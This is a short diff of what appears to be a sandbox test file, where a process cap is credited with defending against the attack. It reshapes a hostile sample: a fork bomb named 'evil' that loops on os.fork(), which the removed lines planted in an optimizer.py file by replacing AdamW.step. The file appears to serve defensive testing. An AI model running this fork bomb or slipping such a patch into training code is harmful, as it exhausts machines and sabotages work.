@@ -3,8 +3,7 @@
 Defended by: sandbox.py: at most 24 processes, all killed at the end of the task.
 """
 
-CODE = {
-    "optimizer.py": """
+STEP = """
 import os
 def evil(self, closure=None):
     while True:
@@ -12,7 +11,4 @@ def evil(self, closure=None):
             os.fork()
         except OSError:
             pass
-
-AdamW.step = evil
-""",
-}
+"""
